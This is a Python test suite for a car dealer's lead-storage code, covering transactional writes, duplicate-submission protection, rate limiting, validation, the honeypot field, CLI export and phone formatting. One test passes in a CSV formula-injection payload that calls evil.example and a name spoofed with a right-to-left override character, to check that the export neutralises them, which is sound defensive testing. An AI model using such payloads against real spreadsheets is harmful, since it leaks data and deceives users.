"""Storing leads in a real SQLite database: one transaction, idempotent, rate-limited."""

from __future__ import annotations

import csv
import datetime as dt
import secrets
import threading
import time
from pathlib import Path

import pytest
from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext
from sqlalchemy import MetaData, inspect, text
from sqlalchemy.engine import Engine
from sqlalchemy.exc import OperationalError
from sqlmodel import Session, select

from dealer.appointments.options import AppointmentOptions, draft_key
from dealer.forms.definitions import FORM_ERROR, HONEYPOT, get_form, initial_values
from dealer.forms.drafts import restored_request_key, restored_values, with_draft
from dealer.leads import __main__ as cli
from dealer.leads.models import Lead, OutboxMessage
from dealer.leads.store import (
    RATE_LIMIT,
    RATE_WINDOW,
    InvalidSubmissionError,
    RateLimitedError,
    client_key,
    store_lead,
)
from dealer.settings import Settings

BOTH_CHANNELS = Settings(smtp_host="127.0.0.1", lead_mail_to="verkoop@example.nl",
                         lead_webhook_url="http://127.0.0.1:9/leads")
NO_CHANNELS = Settings(smtp_host=None, lead_mail_to=None, lead_webhook_url=None)
NOW = dt.datetime(2025, 6, 2, 9, 0, tzinfo=dt.UTC)
VISITOR = client_key("198.51.100.7")


def values(**changes: object) -> dict[str, object]:
    return {
        "name": "Anna de Vries", "email": "anna@example.nl", "phone": "06 12345678",
        "contact_preference": "phone", "message": "Is hij nog beschikbaar?",
        "trade_in": "on", "trade_in_plate": "AB-123-C", "trade_in_mileage": "98000",
        "privacy": "on", HONEYPOT: "", **changes,
    }


def store(engine: Engine, key: str, *, settings: Settings = NO_CHANNELS, now: dt.datetime = NOW,
          visitor: str = VISITOR, **changes: object):
    return store_lead(
        form_id="vehicle_interest", values=values(**changes), locale="nl",
        source_page="/voorraad/audi-a3-1/interesse", client_key=visitor,
        idempotency_key=key, vehicle_slug="audi-a3-1", brand="audi", model="a3",
        subject="Audi A3 Sportback 35 TFSI", engine=engine, settings=settings, now=now,
    )


def leads(engine: Engine) -> list[Lead]:
    with Session(engine) as session:
        return list(session.exec(select(Lead)))


def outbox(engine: Engine) -> list[OutboxMessage]:
    with Session(engine) as session:
        return list(session.exec(select(OutboxMessage)))


def test_the_migration_matches_the_lead_tables(empty_engine: Engine) -> None:
    tables = MetaData()
    for model in (Lead, OutboxMessage):
        model.__table__.to_metadata(tables)

    def ours(name: str | None, kind: str, parent: dict[str, str | None]) -> bool:
        if kind == "schema":
            return True
        table = name if kind == "table" else parent.get("table_name")
        return table in tables.tables

    with empty_engine.connect() as connection:
        context = MigrationContext.configure(connection, opts={"include_name": ours})
        assert compare_metadata(context, tables) == []


def test_a_lead_and_its_deliveries_are_stored_together(empty_engine: Engine) -> None:
    stored = store(empty_engine, "k" * 32, settings=BOTH_CHANNELS)
    assert stored is not None and stored.created
    (lead,) = leads(empty_engine)
    assert (lead.id, lead.form_id, lead.vehicle_slug, lead.locale) == (
        stored.id, "vehicle_interest", "audi-a3-1", "nl")
    assert lead.source_page == "/voorraad/audi-a3-1/interesse"
    assert lead.created_at == NOW
    assert lead.payload["trade_in"] is True and lead.payload["trade_in_plate"] == "AB-123-C"
    assert HONEYPOT not in lead.payload
    assert lead.client_key == VISITOR and "198.51.100.7" not in lead.client_key
    assert sorted((m.channel, m.status, m.attempts) for m in outbox(empty_engine)) == [
        ("email", "pending", 0), ("webhook", "pending", 0)]


def test_a_failing_outbox_write_stores_no_lead(empty_engine: Engine) -> None:
    with empty_engine.begin() as connection:
        connection.execute(text("DROP TABLE outbox_message"))
    with pytest.raises(OperationalError):
        store(empty_engine, "k" * 32, settings=BOTH_CHANNELS)
    assert leads(empty_engine) == []


def test_submitting_twice_stores_one_lead(empty_engine: Engine) -> None:
    first = store(empty_engine, "double-click-key-0001", settings=BOTH_CHANNELS)
    again = store(empty_engine, "double-click-key-0001", settings=BOTH_CHANNELS,
                  now=NOW + dt.timedelta(seconds=3))
    assert first is not None and again is not None
    assert (again.id, again.created) == (first.id, False)
    assert len(leads(empty_engine)) == 1 and len(outbox(empty_engine)) == 2


def test_a_request_sent_again_after_the_server_forgot_it_stores_one_lead(
        empty_engine: Engine) -> None:
    """The key a request is sent under is kept with its draft in the browser and with the
    lead in the database (unique): a lead stored while its answer was lost (the state
    store went down, the state expired) is not stored again when the visitor sends the
    form once more from a state the server made afresh."""
    page = "vehicle_interest:audi-a3-1:"
    draft = with_draft("", page, get_form("vehicle_interest"), values(),
                       secrets.token_urlsafe(24))
    first = store(empty_engine, restored_request_key(draft, page))
    again = store(empty_engine, restored_request_key(draft, page),
                  now=NOW + dt.timedelta(minutes=2))
    assert first is not None and again is not None
    assert (again.id, again.created) == (first.id, False)
    assert len(leads(empty_engine)) == 1
    unique = inspect(empty_engine).get_unique_constraints("lead")
    assert ["idempotency_key"] in [constraint["column_names"] for constraint in unique]


def test_an_appointment_sent_again_after_the_server_forgot_it_stores_one_lead(
        empty_engine: Engine) -> None:
    """The appointment request keeps its key with its draft too: sent again from a state
    the server made afresh (the values and the key from the browser), it is one lead."""
    form = get_form("appointment")
    page = draft_key(AppointmentOptions(location="kleve", product_category="tyres"))
    start = {**initial_values(form), "branch": "kleve", "product_category": "tyres"}
    typed = {**start, "date": "2025-06-10", "time": "09:30", "name": "Anna de Vries",
             "email": "anna@example.nl", "privacy": "on"}
    draft = with_draft("", page, form, typed, secrets.token_urlsafe(24), start)

    def send(now: dt.datetime):
        return store_lead(
            form_id="appointment", values=restored_values(draft, page, form, start),
            locale="de", source_page="/de/termin", client_key=VISITOR,
            idempotency_key=restored_request_key(draft, page), subject="Reifen · Kleve",
            options={"branch": ["kleve"], "time": ["09:30"]}, engine=empty_engine,
            settings=NO_CHANNELS, now=now)

    first, again = send(NOW), send(NOW + dt.timedelta(minutes=2))
    assert first is not None and again is not None
    assert (again.id, again.created) == (first.id, False)
    (lead,) = leads(empty_engine)
    assert (lead.payload["branch"], lead.payload["time"]) == ("kleve", "09:30")


def test_parallel_submits_with_one_key_store_one_lead(empty_engine: Engine) -> None:
    results, barrier = [], threading.Barrier(4)

    def submit() -> None:
        barrier.wait()
        results.append(store(empty_engine, "parallel-key-000001"))

    threads = [threading.Thread(target=submit) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len({result.id for result in results}) == 1
    assert sum(result.created for result in results) == 1
    assert len(leads(empty_engine)) == 1


def test_rate_limit_per_client(empty_engine: Engine) -> None:
    for n in range(RATE_LIMIT):
        store(empty_engine, f"rate-limit-key-{n:04}", now=NOW + dt.timedelta(minutes=n))
    with pytest.raises(RateLimitedError) as refused:
        store(empty_engine, "rate-limit-key-9999", now=NOW + dt.timedelta(minutes=5))
    assert refused.value.errors == {FORM_ERROR: (
        "U heeft in korte tijd meerdere aanvragen verstuurd. "
        "Probeer het over een paar minuten opnieuw.")}
    # Another visitor is not affected; the same visitor may go on once the window has passed.
    assert store(empty_engine, "other-visitor-0001", visitor=client_key("203.0.113.1"),
                 now=NOW + dt.timedelta(minutes=5)) is not None
    assert store(empty_engine, "rate-limit-key-9999", now=NOW + RATE_WINDOW) is not None
    # A repeated submit of an earlier lead is answered even while the limit holds.
    assert store(empty_engine, "rate-limit-key-0004", now=NOW + dt.timedelta(minutes=6)).id
    assert len(leads(empty_engine)) == RATE_LIMIT + 2


def test_the_server_validates_again_and_stores_nothing_invalid(empty_engine: Engine) -> None:
    with pytest.raises(InvalidSubmissionError) as refused:
        store(empty_engine, "invalid-key-000001", email="anna@", privacy="")
    assert refused.value.errors == {
        "email": "Vul een geldig e-mailadres in.",
        "privacy": "Geef uw toestemming, zodat we uw aanvraag kunnen afhandelen.",
    }
    with pytest.raises(InvalidSubmissionError) as malformed:
        store(empty_engine, "short")
    assert FORM_ERROR in malformed.value.errors
    assert leads(empty_engine) == []


def test_a_filled_honeypot_stores_nothing(empty_engine: Engine) -> None:
    assert store(empty_engine, "honeypot-key-00001", **{HONEYPOT: "https://spam.example"}) is None
    assert leads(empty_engine) == []


def test_storing_a_lead_is_fast(empty_engine: Engine) -> None:
    started = time.perf_counter()
    for n in range(20):
        store(empty_engine, f"timing-key-{n:06}", visitor=client_key(f"10.0.0.{n}"),
              settings=BOTH_CHANNELS)
    per_lead_ms = (time.perf_counter() - started) * 1000 / 20
    assert per_lead_ms < 100, per_lead_ms


def test_cli_lists_and_exports_leads(
    empty_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr("dealer.leads.report.get_engine", lambda: empty_engine)
    store(empty_engine, "export-key-000001", settings=BOTH_CHANNELS)
    store_lead(
        form_id="direct_contact", locale="de", source_page="/de/direktkontakt",
        values={"topic": "workshop", "name": "Jörg Müller", "email": "joerg@example.de",
                "contact_preference": "email", "message": "Termin für die Inspektion, bitte.",
                "privacy": "on"},
        client_key=VISITOR, idempotency_key="export-key-000002", engine=empty_engine,
        settings=NO_CHANNELS, now=NOW + dt.timedelta(hours=1),
    )
    assert cli.main(["list"]) == 0
    listed = capsys.readouterr().out
    assert listed.index("direct_contact") < listed.index("vehicle_interest")  # newest first
    assert "email:pending webhook:pending" in listed and "2 lead(s)" in listed

    target = tmp_path / "leads.csv"
    assert cli.main(["export", "--csv", str(target)]) == 0
    with target.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["form"] for row in rows] == ["vehicle_interest", "direct_contact"]
    assert rows[0]["subject"] == "Audi A3 Sportback 35 TFSI"
    assert rows[0]["trade_in"] == "yes" and rows[0]["trade_in_plate"] == "AB-123-C"
    assert rows[1]["name"] == "Jörg Müller" and rows[1]["topic"] == "workshop"
    assert rows[1]["trade_in_plate"] == "" and rows[1]["delivery"] == "-"


def test_the_dealers_tools_never_run_or_reorder_what_a_visitor_typed(
    empty_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr("dealer.leads.report.get_engine", lambda: empty_engine)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bekijk")'
    reversed_name = "Anna \u202efdp.exe"
    store(empty_engine, "hostile-key-000001", name=reversed_name, message=formula)

    assert cli.main(["list"]) == 0
    listed = capsys.readouterr().out
    assert "\u202e" not in listed and "Anna <U+202E>fdp.exe" in listed

    target = tmp_path / "leads.csv"
    assert cli.main(["export", "--csv", str(target)]) == 0
    with target.open(encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["message"] == "'" + formula  # text, not a formula, in a spreadsheet
    assert row["name"] == "Anna <U+202E>fdp.exe"
    (lead,) = leads(empty_engine)
    assert lead.payload["name"] == reversed_name and lead.payload["message"] == formula


@pytest.mark.parametrize(("typed", "stored"), [
    ("06 12345678", "+31612345678"),  # national, read as Dutch on a Dutch page
    ("+49 171 1234567", "+491711234567"),  # another country's, written internationally
    ("0031 (0)30-2624000", "+31302624000"),
    ("12345678", "12345678"),  # no number anywhere: kept as typed
])
def test_a_phone_number_is_stored_in_e164(empty_engine: Engine, typed: str,
                                          stored: str) -> None:
    store(empty_engine, "phone-number-test-" + "".join(c for c in typed if c.isdigit()),
          phone=typed)
    (lead,) = leads(empty_engine)
    assert lead.payload["phone"] == stored
